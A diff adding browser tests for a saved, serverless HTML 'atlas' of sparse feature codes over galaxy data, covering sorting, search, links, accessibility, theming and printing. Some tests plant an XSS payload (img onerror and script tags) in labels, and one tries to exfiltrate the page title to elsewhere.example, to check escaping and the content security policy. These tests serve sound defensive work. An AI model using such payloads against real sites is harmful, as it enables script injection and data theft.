@@ -1,0 +1,231 @@
+"""The saved atlas opened as a file: no server, no request, the same page."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import numpy as np
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+
+from sfnet_core.codes import SparseCodes
+from sfnet_core.explorer.atlas.cards import Almanac
+from sfnet_core.explorer.atlas.page import Atlas
+from sfnet_core.explorer.atlas.saved import save_page
+from sfnet_core.explorer.sample import sample_codes, sample_dataset
+from sfnet_core.explorer.scene import Scene
+from sfnet_core.labels import LabelBook
+
+HOSTILE = "<img src=x onerror=document.title='acted'></script><script>document.title='acted'</script>"
+
+
+@pytest.fixture(scope="module")
+def saved(tmp_path_factory) -> tuple[SparseCodes, Path]:
+    """The embedded sample's atlas with a label and an identifier that would act, and a note."""
+    folder = tmp_path_factory.mktemp("saved")
+    sample = sample_codes()
+    sample.save(folder / "codes.parquet")
+    codes = SparseCodes.open(folder / "codes.parquet")
+    rows = np.flatnonzero(codes.split == "validation")
+    first = int(Almanac(Scene(codes)).table("validation", 0)["feature"][0])
+    book = LabelBook.open(codes)
+    book.set_feature(first, label=HOSTILE[:80], note="blue, face-on", star=True)
+    codes.ids[rows[0]] = HOSTILE
+    save_page(codes, folder / "atlas of it.html", sample_dataset())
+    return codes, folder / "atlas of it.html"
+
+
+@pytest.fixture
+def page(saved, browser):
+    """The file in a browser of its own; a request, an error or a refusal by the content policy fails the test."""
+    address = saved[1].as_uri()
+    context = browser.new_context(viewport={"width": 1440, "height": 900})
+    page = context.new_page()
+    page.set_default_timeout(15_000)
+    troubles: list[str] = []
+    ours = (address, "data:", "blob:", "about:")
+    page.on("request", lambda r: None if r.url.startswith(ours) else troubles.append(f"request: {r.url[:200]}"))
+    page.on("pageerror", lambda error: troubles.append(f"uncaught: {error}"))
+    page.on("console", lambda m: troubles.append(f"console: {m.text}") if m.type in ("error", "warning") else None)
+    page.goto(address)
+    page.wait_for_selector(".sf-page")
+    yield page
+    context.close()
+    assert not troubles, "\n".join(troubles)
+
+
+def table_of(codes: SparseCodes) -> dict:
+    return Almanac(Scene(codes)).table("validation", 0)
+
+
+def features(page) -> list[int]:
+    return [int(f) for f in page.locator(".sf-card").evaluate_all("all => all.map(e => e.dataset.feature)")]
+
+
+def plain(text: str) -> str:
+    return text.replace("\N{MINUS SIGN}", "-")
+
+
+def test_cards_sort_search_and_open_from_a_file(saved, page):
+    codes, _ = saved
+    table = table_of(codes)
+    assert features(page) == table["feature"].tolist()
+    card = page.locator(".sf-card").nth(1)
+    words = plain(card.inner_text())
+    for name, digits in (("weight", 4), ("mean", 4), ("pearson", 2), ("partial", 2)):
+        assert f"{table[name][1]:+.{digits}f}" in words
+    page.wait_for_function("() => document.querySelectorAll('.sf-card:first-child img').length === 6")
+    assert page.locator(".sf-card img").first.evaluate("e => e.complete && e.naturalWidth === 128")
+    assert page.locator(".sf-badge").inner_text().lower() == "simulated"
+    assert "RMSE 0.0912 dex (95 %: 0.0812 to 0.1009)" in page.locator(".sf-status").inner_text()
+
+    page.get_by_label("Sort the features by").select_option("weight")
+    assert features(page) == table["feature"][np.argsort(-table["weight"], kind="stable")].tolist()
+    page.get_by_role("button", name="high to low").click()
+    assert features(page) == table["feature"][np.argsort(table["weight"], kind="stable")].tolist()
+    page.get_by_label("Lowest firing rate of the features shown").select_option("0.1")
+    assert set(features(page)) == set(table["feature"][table["rate"] >= 0.1].tolist())
+    page.get_by_label("Find a feature by number or label").fill("f9")
+    page.wait_for_function(
+        "() => [...document.querySelectorAll('.sf-card')].every(e => e.dataset.feature.startsWith('9'))"
+    )
+    assert page.url.endswith("#sort=weight&descending=0&find=f9&least=0.1")
+    page.get_by_role("button", name="Undo").click()
+    assert set(features(page)) == set(table["feature"][table["rate"] >= 0.1].tolist())
+
+
+def test_a_feature_by_its_number_in_the_address(saved, page):
+    codes, path = saved
+    second, third = table_of(codes)["feature"][1:3].tolist()
+    page.locator(f".sf-card[data-feature='{second}'] .sf-open").click()
+    page.wait_for_selector(f".sf-leaf[data-slow='{second}']")
+    assert page.url.endswith(f"#f{second}")
+    # the same words and numbers as on the served page
+    served = Atlas(codes, sample_dataset())
+    served.state.change(feature=second)
+    served.leaf._receive(served.leaf, {"do": "slow"}, [])
+    words = plain(page.locator(".sf-leaf").inner_text())
+    for one in served.leaf.slow["coefficients"]:
+        digits = 3 if one["high"] - one["low"] < 0.1 else 2
+        assert f"{one['value']:+.3f}" in words and f"[{one['low']:+.{digits}f}, {one['high']:+.{digits}f}]" in words
+    for group in served.leaf.galaxies["groups"]:
+        there = page.locator(f"[data-group={group['key']}] .sf-thumb").evaluate_all("all => all.map(e => e.dataset.id)")
+        assert there == [one["id"] for one in group["galaxies"]]
+    assert page.locator(".sf-nine img").count() == 9 and page.locator(".sf-mean-map").is_visible()
+    dots = "all => all.map(e => (e.getAttribute('d').match(/h0/g) || []).length).reduce((a, b) => a + b, 0)"
+    assert page.locator(".sf-part-scatter path[stroke-linecap=round]").evaluate_all(dots) == served.leaf.plot["n"]
+    assert page.locator(".sf-part-bpt path[stroke-linecap=round]").evaluate_all(dots) == served.leaf.data["bpt"]["n"]
+
+    page.get_by_label("Draw the activation against").select_option("lgm_tot_p50")
+    assert "log stellar mass" in page.locator(".sf-part-scatter svg").text_content()
+    assert page.url.endswith(f"#f{second}&against=lgm_tot_p50")
+    page.keyboard.press("Escape")
+    page.wait_for_selector(".sf-card")
+    page.go_back()
+    page.wait_for_selector(f".sf-leaf[data-slow='{second}']")
+    page.keyboard.press("ArrowRight")
+    page.wait_for_selector(f".sf-leaf[data-slow='{third}']")
+    # a link opens on it; nonsense in a link is said, and the page opens
+    page.goto("about:blank")
+    page.goto(f"{path.as_uri()}#f{third}&against=z&sort=nonsense&%3Cimg%3E")
+    page.wait_for_selector(f".sf-leaf[data-slow='{third}']")
+    assert "redshift" in page.locator(".sf-part-scatter svg").text_content()
+    assert "sort=nonsense" in page.locator(".sf-notice").inner_text()
+    assert page.locator(".sf-notice img").count() == 0
+
+
+def test_t10_hostile_texts_are_shown_as_they_stand(saved, page):
+    codes, _ = saved
+    first = int(table_of(codes)["feature"][0])
+    name = page.locator(f".sf-card[data-feature='{first}'] .sf-open")
+    assert HOSTILE[:80] in name.inner_text()
+    name.click()
+    page.wait_for_selector(f".sf-leaf[data-slow='{first}']")
+    assert HOSTILE[:80] in page.locator(".sf-leaf h2").inner_text()
+    assert page.locator(".sf-said").inner_text() == "blue, face-on"
+    assert page.locator("img[src=x]").count() == 0 and page.title() == "codes · atlas"
+
+
+def test_a_program_that_got_in_would_not_run_nor_send_anything(saved, browser):
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(saved[1].as_uri())
+    page.wait_for_selector(".sf-page")
+    refused = page.evaluate(
+        """async () => {
+          const found = [];
+          document.addEventListener("securitypolicyviolation", (e) => found.push(e.effectiveDirective));
+          const script = document.createElement("script");
+          script.textContent = "document.title = 'acted'";
+          document.body.append(script);
+          const image = new Image();
+          image.src = "https://elsewhere.example/?q=" + document.title;
+          await fetch("https://elsewhere.example/").catch(() => 0);
+          await new Promise((done) => setTimeout(done, 200));
+          return found.map((name) => name.split("-")[0]).sort();
+        }"""
+    )
+    assert refused == ["connect", "img", "script"] and page.title() == "codes · atlas"
+    context.close()
+
+
+def test_tables_keys_paper_and_axe_in_light_and_dark(saved, page):
+    codes, _ = saved
+    table = table_of(codes)
+    for key, drawn in (("2", ".sf-signs"), ("3", ".sf-matrix"), ("4", ".sf-about dl"), ("1", ".sf-card")):
+        page.keyboard.press(key)
+        page.wait_for_selector(drawn)
+        if key == "1":
+            page.locator(".sf-card .sf-open").nth(1).click()
+            page.wait_for_selector(".sf-leaf[data-slow]")
+        for _ in ("light, then dark", "and back"):
+            found = Axe().run(page).response["violations"]
+            assert not [f"{v['id']}: {n['html'][:120]}" for v in found for n in v["nodes"]], drawn
+            page.keyboard.press("d")
+    page.keyboard.press("Escape")
+    page.keyboard.press("2")
+    assert page.locator(".sf-signs tbody tr").count() == len(table["feature"])
+    page.keyboard.press("4")
+    about = page.locator(".sf-about").inner_text()
+    assert codes.provenance["dataset_fingerprint"] in about and "sfnet export" in about
+    page.keyboard.press("1")
+    page.emulate_media(media="print")
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    page.wait_for_function("() => document.querySelectorAll('.sf-card img').length > 100")
+    assert page.locator("[data-action=theme]").is_hidden() and page.locator(".sf-overview").is_hidden()
+    bottoms = "e => [e, e.closest('.sf-root')].map(one => one.getBoundingClientRect().bottom)"
+    card, root = page.locator(".sf-card").last.evaluate(bottoms)
+    assert card <= root  # no card is cut off
+    assert page.pdf(format="A4").startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_page_follows_the_systems_theme_and_fits(saved, browser, scheme):
+    context = browser.new_context(viewport={"width": 1024, "height": 768}, color_scheme=scheme)
+    page = context.new_page()
+    page.goto(saved[1].as_uri())
+    page.wait_for_selector(".sf-page")
+    assert ("sf-dark" in page.locator(".sf-root").get_attribute("class").split()) is (scheme == "dark")
+    wider = """() => [...document.querySelectorAll('.sf-atlas *')]
+        .filter(e => !e.closest('svg') && e.checkVisibility() && e.getBoundingClientRect().right > innerWidth + 1)
+        .map(e => e.className)"""
+    assert page.evaluate(wider) == []
+    page.locator(".sf-card .sf-open").first.click()
+    page.wait_for_selector(".sf-leaf[data-slow]")
+    assert page.evaluate(wider) == []
+    context.close()
+
+
+def test_the_served_page_saves_itself(serve, open_page, browser, tmp_path):
+    page = open_page(serve().replace("explore.ipynb", "atlas.ipynb"))
+    with page.expect_download(timeout=60_000) as found:
+        page.get_by_role("button", name="save as a page").click()
+    assert found.value.suggested_filename == "embedded-sample-atlas.html"
+    found.value.save_as(tmp_path / "atlas.html")
+    assert page.get_by_role("button", name="save as a page").is_enabled()
+    context = browser.new_context()
+    saved = context.new_page()
+    saved.goto((tmp_path / "atlas.html").as_uri())
+    saved.wait_for_selector(".sf-page")
+    assert features(saved) == features(page) and "embedded sample" in saved.locator("h1").inner_text()
+    context.close()
